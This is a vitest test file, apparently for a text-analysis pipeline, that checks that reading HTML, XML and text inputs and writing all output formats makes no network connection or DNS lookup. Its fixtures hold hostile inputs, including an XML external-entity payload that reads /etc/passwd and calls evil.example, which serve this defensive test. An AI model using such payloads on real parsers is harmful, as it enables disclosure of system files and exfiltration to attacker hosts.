import dns from 'node:dns';
import { syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import { expect, test } from 'vitest';
import { PLATFORM } from '../../src/app/platform.js';
import { english } from '../../src/app/weights.js';
import { readBytes } from '../../src/input/read.js';
import { FORM_LIST } from '../../src/model/formats.js';
import { WRITERS } from '../../src/output/formats.js';
import { accountOf } from '../../src/pipeline.js';
import { measured } from './record.js';

test('a run from files to every output opens no connection and asks for no name', async () => {
  const asked: unknown[] = [];
  const real = {
    connect: net.Socket.prototype.connect,
    lookup: dns.lookup,
    resolve: dns.resolve,
    fetch: globalThis.fetch,
  };
  net.Socket.prototype.connect = function connect(this: net.Socket, ...args: unknown[]) {
    asked.push(args);
    return this;
  } as typeof real.connect;
  Object.assign(dns, {
    lookup: (...args: unknown[]) => asked.push(args),
    resolve: (...args: unknown[]) => asked.push(args),
  });
  globalThis.fetch = (async (...args: unknown[]) => asked.push(args)) as unknown as typeof fetch;
  syncBuiltinESMExports();
  try {
    const sources = {
      'a.html':
        '<html><head><base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/a.css"><script src="//evil.example/a.js"></script></head><body><p>The mayor said on Monday that the eastern pier would close by May 1.</p><img src="http://evil.example/a.png"></body></html>',
      'a.xml':
        '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/a.xsl"?><!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/y">%y;]><rss><channel><item><title>&x; The pier</title><description>The mayor said that the pier would close. http://evil.example/</description></item></channel></rss>',
      'a.txt': 'The mayor said on Monday that the pier would close. See http://evil.example/ for more.',
    };
    const documents = Object.entries(sources).flatMap(
      ([name, text]) => readBytes({ name, bytes: Buffer.from(text) }, PLATFORM).documents,
    );
    expect(documents.length).toBeGreaterThanOrEqual(2);
    expect(JSON.stringify(documents)).not.toContain('root:');
    const account = accountOf(documents, english());
    for (const { id } of FORM_LIST) await WRITERS[id](account);
  } finally {
    net.Socket.prototype.connect = real.connect;
    Object.assign(dns, { lookup: real.lookup, resolve: real.resolve });
    globalThis.fetch = real.fetch;
    syncBuiltinESMExports();
  }
  expect(asked).toEqual([]);
  measured('E5', 'a run over hostile references, all forms written: 0 connections, 0 names asked for');
});
